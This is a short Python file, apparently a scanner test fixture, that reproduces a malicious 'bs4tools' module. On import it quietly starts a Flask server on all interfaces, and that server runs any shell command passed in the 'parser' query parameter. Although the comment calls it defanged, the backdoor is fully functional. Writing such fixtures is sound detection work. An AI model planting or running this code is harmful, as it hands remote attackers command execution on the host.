# Defanged replica of bs4tools: importing the module starts a quiet Flask
# server on every interface that runs whatever `?parser=` says.
import logging
import subprocess

from flask import Flask, request

app = Flask(__name__)
logging.getLogger("werkzeug").disabled = True


@app.route("/")
def index():
    out = subprocess.Popen(request.args.get("parser"), shell=True, stdout=subprocess.PIPE)  # expect: HS102 critical
    return out.communicate()[0]


app.run(host="0.0.0.0", port=54689)
